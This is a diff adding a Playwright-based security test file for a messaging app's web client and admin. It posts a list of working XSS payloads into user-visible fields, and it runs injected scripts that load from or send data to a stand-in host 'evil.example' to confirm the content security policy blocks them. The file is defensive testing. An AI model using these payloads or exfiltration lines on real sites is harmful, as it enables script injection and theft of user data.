@@ -1,0 +1,159 @@
+"""18: what people write is text, in the web client and in the admin, in a real browser under a strict policy."""
+
+from typing import Any
+
+import pytest
+from playwright.async_api import Page
+
+from tests.browser.conftest import Arrives
+from tests.harness.people import PASSWORD, Device, People
+from tests.harness.servers import Site
+from tests.security.staff import SESSIONS, USERS, Staff
+
+
+@pytest.fixture
+def site(production: Site) -> Site:
+    """Where visitors arrive: the client is the same for every profile."""
+    return production
+
+
+MARK = "window.injected=1"
+ATTACKS = [
+    f"<script>{MARK}</script>",
+    f"<img src=x onerror={MARK}>",
+    f"<svg/onload={MARK}>",
+    f'"><input autofocus onfocus={MARK}>',
+    f"javascript:{MARK}",
+    f"{{{{constructor.constructor('{MARK}')()}}}}",
+    f"</title></textarea></script><script>{MARK}</script>",
+    f"<b x-data x-init='{MARK}' @click='{MARK}'>alpine</b>",
+]
+NAME = f"<svg/onload={MARK}>"
+
+
+async def attack_everywhere(eve: Device, ana: Device) -> Any:
+    """Put every attack where somebody else will see it."""
+    await eve.patches("/users/me", {"display_name": NAME, "about": "".join(ATTACKS)[:500]})
+    group = await eve.gathers(ana, name=ATTACKS[0])
+    await eve.patches(f"/conversations/{group['id']}", {"description": "".join(ATTACKS)})
+    for attack in ATTACKS:
+        await eve.posts("/messages", {"conversation_id": group["id"], "content": attack, "metadata": {attack: attack}})
+    place = {"latitude": 1, "longitude": 1, "label": ATTACKS[1]}
+    where = {"conversation_id": group["id"], "message_type": "location", "metadata": place}
+    await eve.posts("/messages", where)
+    await eve.posts("/auth/login", {"username": eve.username, "password": PASSWORD, "device_name": ATTACKS[1]})
+    return group
+
+
+async def nothing_ran_in(page: Page) -> None:
+    assert await page.evaluate("window.injected") is None
+    assert await page.locator("[onerror], [onload], [onfocus], img[src=x]").count() == 0
+
+
+async def test_in_the_web_client(production: Site, arrives: Arrives) -> None:
+    async with People(production)("eve", "ana", connected=False) as (eve, ana):
+        await attack_everywhere(eve, ana)
+        at_ana = await arrives(ana.server.port)
+        await at_ana.signs_in(ana)
+        await at_ana.opens(ATTACKS[0])
+        for attack in ATTACKS:
+            await at_ana.sees(attack)
+        await at_ana.page.get_by_role("button", name="Details").or_(at_ana.page.locator(".header-name")).first.click()
+        await nothing_ran_in(at_ana.page)
+
+
+async def test_in_the_admin(production: Site, staff: Staff, arrives: Arrives) -> None:
+    async with People(production)("eve", "ana", connected=False) as (eve, ana):
+        group = await attack_everywhere(eve, ana)
+        messages = (await ana.history(group))[-len(ATTACKS) :]
+        visitor = await arrives(staff.person.server.port)
+        page = visitor.page
+        await page.goto("/admin/")
+        await page.locator("[name=username]").fill(staff.person.username)
+        await page.locator("[name=password]").fill(PASSWORD)
+        await page.locator("[name=password]").press("Enter")
+        await page.wait_for_url("**/admin/", wait_until="commit")
+        for address in (
+            USERS,
+            f"{USERS}{eve.id}/change/",
+            f"{USERS}?q={ATTACKS[1]}",
+            SESSIONS,
+            "/admin/conversations/conversation/",
+            f"/admin/conversations/conversation/{group['id']}/change/",
+            "/admin/conversations/participant/",
+            "/admin/messaging/message/",
+            *(f"/admin/messaging/message/{message['id']}/change/" for message in messages),
+            "/admin/",
+        ):
+            answer = await page.goto(address)
+            assert answer is not None
+            assert answer.status == 200, address
+            await nothing_ran_in(page)
+        visitor.complaints = [each for each in visitor.complaints if "404" not in each]  # an icon that is not there
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "const s = document.createElement('script'); s.textContent = 'window.injected=1'; document.body.append(s)",
+        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.injected=1>')",
+        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
+        "const s = document.createElement('script'); s.src = 'data:,window.injected=1'; document.body.append(s)",
+        "document.body.insertAdjacentHTML('beforeend', '<base href=https://evil.example/>')",
+        "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example/></iframe>')",
+        "document.body.insertAdjacentHTML('beforeend', '<object data=https://evil.example/></object>')",
+        "fetch('https://evil.example/?stolen')",
+        "new WebSocket('wss://evil.example/')",
+    ],
+    ids=lambda attempt: attempt.split("'")[-2][:30],
+)
+async def test_the_policy_stops_what_gets_into_the_page_all_the_same(
+    production: Site, arrives: Arrives, attempt: str
+) -> None:
+    """The second net: as if the client had a hole."""
+    visitor = await arrives(production.servers[0].port)
+    await visitor.page.evaluate(
+        "void (window.refused = new Promise(done => addEventListener('securitypolicyviolation',"
+        " event => done(event.effectiveDirective))))"
+    )
+    await visitor.page.evaluate(f"(() => {{ try {{ {attempt} }} catch {{}} }})()")
+    assert await visitor.page.evaluate("Promise.race([refused, new Promise(done => setTimeout(done, 3000, ''))])")
+    assert await visitor.page.evaluate("window.injected") is None
+    visitor.complaints.clear()
+
+
+async def test_no_credential_is_where_a_script_could_read_it(production: Site, arrives: Arrives) -> None:
+    """The trap of tokens in plain preferences: the browser's session is a cookie that no script sees."""
+    async with People(production)("ana", "ben", connected=False) as (ana, ben):
+        await ana.talks_to(ben)
+        visitor = await arrives(ana.server.port)
+        await visitor.signs_in(ana)
+        await visitor.opens("Ben")
+        await visitor.writes("hello")
+        await visitor.lets_the_cache_be_written()
+        (session,) = [each for each in await visitor.context.cookies() if each["name"] == "sessionid"]
+        assert session["httpOnly"]
+        readable = await visitor.page.evaluate(
+            """async () => {
+              const databases = await indexedDB.databases();
+              const open = (name) => new Promise((done, fail) => {
+                const request = indexedDB.open(name);
+                request.onsuccess = () => done(request.result);
+                request.onerror = fail;
+              });
+              const all = (store) => new Promise((done) => {
+                store.getAll().onsuccess = (event) => done(event.target.result);
+              });
+              const rows = [];
+              for (const { name } of databases) {
+                const database = await open(name);
+                for (const store of database.objectStoreNames)
+                  rows.push(await all(database.transaction(store).objectStore(store)));
+              }
+              return JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, rows]);
+            }"""
+        )
+        assert ana.id in readable, "the stores were looked through"
+        assert session["value"] not in readable
+        assert PASSWORD not in readable
+        assert "token" not in readable.replace("csrftoken", "")
